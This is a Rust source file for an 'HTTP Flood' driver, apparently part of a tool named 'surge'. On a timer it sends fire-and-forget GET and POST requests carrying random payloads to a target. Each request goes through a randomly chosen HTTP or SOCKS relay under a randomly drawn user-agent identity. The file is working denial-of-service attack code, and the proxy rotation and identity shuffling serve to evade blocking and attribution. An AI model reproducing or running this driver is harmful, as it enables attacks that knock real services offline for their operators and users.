//! HTTP flood driver
//!
//! Request-per-tick pattern: every `packet_delay` milliseconds, draw one
//! relay and one identity at random (independent draws, with replacement)
//! and issue one fire-and-forget request carrying a random opaque payload.
//! Attempts are independent; a failed attempt never blocks later ticks.

use crate::util::{attempt_err, attempt_ok, random_payload};
use async_trait::async_trait;
use rand::Rng;
use surge_core::{
    Driver, DriverContext, DriverDescriptor, Error, RelayDescriptor, RelayProtocol, Result,
    TelemetrySink,
};
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;
use tracing::debug;

static DESCRIPTOR: DriverDescriptor = DriverDescriptor {
    id: "http_flood",
    name: "HTTP Flood",
    description: "Floods the target with HTTP requests.",
    supported: &[
        RelayProtocol::Http,
        RelayProtocol::Https,
        RelayProtocol::Socks4,
        RelayProtocol::Socks5,
    ],
};

/// Payloads above this size bias the method coin toward POST.
const POST_BIAS_THRESHOLD: usize = 64;
const POST_BIAS: f64 = 0.8;

#[derive(Default)]
pub struct HttpFloodDriver;

impl HttpFloodDriver {
    pub fn new() -> Self {
        Self
    }
}

/// GET or POST, by a coin biased toward POST for large payloads and
/// uniform otherwise.
fn use_get<R: Rng + ?Sized>(packet_size: usize, rng: &mut R) -> bool {
    if packet_size > POST_BIAS_THRESHOLD {
        rng.gen_bool(1.0 - POST_BIAS)
    } else {
        rng.gen_bool(0.5)
    }
}

async fn send_one(
    url: &str,
    relay: Option<&RelayDescriptor>,
    user_agent: Option<&str>,
    packet_size: usize,
) -> Result<()> {
    let client = surge_transport::http_client(relay, user_agent, None, false)?;
    let (get, payload) = {
        let mut rng = rand::thread_rng();
        (
            use_get(packet_size, &mut rng),
            random_payload(&mut rng, packet_size),
        )
    };

    let request = if get {
        client.get(format!("{url}/{payload}"))
    } else {
        client.post(url.to_string()).body(payload)
    };
    request
        .send()
        .await
        .map_err(|e| Error::Request(e.to_string()))?;
    Ok(())
}

async fn attempt(
    sink: TelemetrySink,
    url: String,
    relay: Option<RelayDescriptor>,
    ua: Option<String>,
    size: usize,
) {
    match send_one(&url, relay.as_ref(), ua.as_deref(), size).await {
        Ok(()) => sink.success(attempt_ok("request_success", relay.as_ref(), &url)),
        Err(e) => sink.failure(attempt_err(
            "request_failed",
            relay.as_ref(),
            &url,
            &e.to_string(),
        )),
    }
}

#[async_trait]
impl Driver for HttpFloodDriver {
    fn descriptor(&self) -> &DriverDescriptor {
        &DESCRIPTOR
    }

    async fn run(&self, ctx: DriverContext) -> Result<()> {
        let url = ctx.target.http_url();
        let mut ticker = tokio::time::interval(ctx.tick_interval());
        ticker.set_missed_tick_behavior(MissedTickBehavior::Skip);

        let mut attempts = JoinSet::new();
        while ctx.should_continue() {
            tokio::select! {
                _ = ticker.tick() => {}
                _ = tokio::time::sleep_until(ctx.deadline) => break,
            }
            if !ctx.is_running() {
                break;
            }

            let (relay, ua) = {
                let mut rng = rand::thread_rng();
                (ctx.draw_relay(&mut rng), ctx.draw_identity(&mut rng))
            };
            attempts.spawn(attempt(
                ctx.sink.clone(),
                url.clone(),
                relay,
                ua,
                ctx.packet_size,
            ));

            // Reap completed attempts so the set stays small.
            while attempts.try_join_next().is_some() {}
        }

        debug!(total = ctx.sink.total(), "http flood winding down");
        attempts.shutdown().await;
        Ok(())
    }
}
